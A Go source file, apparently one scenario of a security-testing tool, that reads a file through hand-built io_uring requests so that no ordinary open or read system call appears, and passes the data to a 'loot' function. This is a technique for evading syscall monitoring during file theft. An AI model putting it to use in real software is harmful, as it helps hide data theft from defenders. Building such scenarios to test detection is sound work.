//go:build thief && linux

package thief

import (
	"sync/atomic"
	"unsafe"

	"golang.org/x/sys/unix"
)

// ring reads a file by io_uring: without a call that opens, and without one that
// reads. The structures are those of io_uring(7).
func (s Scene) ring(path string) error {
	r, err := newRing()
	if err != nil {
		return err
	}
	defer unix.Close(r.fd)
	name, err := unix.BytePtrFromString(path)
	if err != nil {
		return err
	}
	const openAt, read = 18, 22
	file, err := r.do(entry{opcode: openAt, fd: unix.AT_FDCWD, address: uint64(uintptr(unsafe.Pointer(name)))})
	if err != nil {
		return err
	}
	defer unix.Close(file)
	data := make([]byte, 4<<10)
	n, err := r.do(entry{opcode: read, fd: int32(file), address: uint64(uintptr(unsafe.Pointer(&data[0]))), length: uint32(len(data))})
	if err != nil {
		return err
	}
	return s.loot(data[:n])
}

// entry is a request.
type entry struct {
	opcode, flags    uint8
	priority         uint16
	fd               int32
	offset, address  uint64
	length, operands uint32
	data             uint64
	_                [3]uint64
}

// completion is the answer to one.
type completion struct {
	data   uint64
	result int32
	flags  uint32
}

type parameters struct {
	entries, completions, flags, cpu, idle, features, queue uint32
	_                                                       [3]uint32
	submission                                              struct {
		head, tail, mask, entries, flags, dropped, array, _ uint32
		_                                                   uint64
	}
	completion struct {
		head, tail, mask, entries, overflow, entriesAt, flags, _ uint32
		_                                                        uint64
	}
}

type ring struct {
	fd                   int
	p                    parameters
	submission, complete []byte
	entries              []byte
}

func newRing() (*ring, error) {
	r := &ring{}
	fd, _, errno := unix.Syscall(unix.SYS_IO_URING_SETUP, 1, uintptr(unsafe.Pointer(&r.p)), 0)
	if errno != 0 {
		return nil, errno
	}
	r.fd = int(fd)
	const completionsAt, entriesAt = 0x8000000, 0x10000000
	var err error
	for _, m := range []struct {
		memory *[]byte
		offset int64
	}{{&r.submission, 0}, {&r.complete, completionsAt}, {&r.entries, entriesAt}} {
		if *m.memory, err = unix.Mmap(r.fd, m.offset, 4<<10, unix.PROT_READ|unix.PROT_WRITE, unix.MAP_SHARED|unix.MAP_POPULATE); err != nil {
			return nil, err
		}
	}
	return r, nil
}

// do makes one request and waits for its end.
func (r *ring) do(e entry) (int, error) {
	*(*entry)(unsafe.Pointer(&r.entries[0])) = e
	at := func(memory []byte, offset uint32) *uint32 { return (*uint32)(unsafe.Pointer(&memory[offset])) }
	*at(r.submission, r.p.submission.array) = 0
	atomic.AddUint32(at(r.submission, r.p.submission.tail), 1)
	const getEvents = 1
	if _, _, errno := unix.Syscall6(unix.SYS_IO_URING_ENTER, uintptr(r.fd), 1, 1, getEvents, 0, 0); errno != 0 {
		return 0, errno
	}
	head := at(r.complete, r.p.completion.head)
	slot := atomic.LoadUint32(head) & *at(r.complete, r.p.completion.mask)
	c := *(*completion)(unsafe.Pointer(&r.complete[r.p.completion.entriesAt+slot*uint32(unsafe.Sizeof(completion{}))]))
	atomic.AddUint32(head, 1)
	if c.result < 0 {
		return 0, unix.Errno(-c.result)
	}
	return int(c.result), nil
}
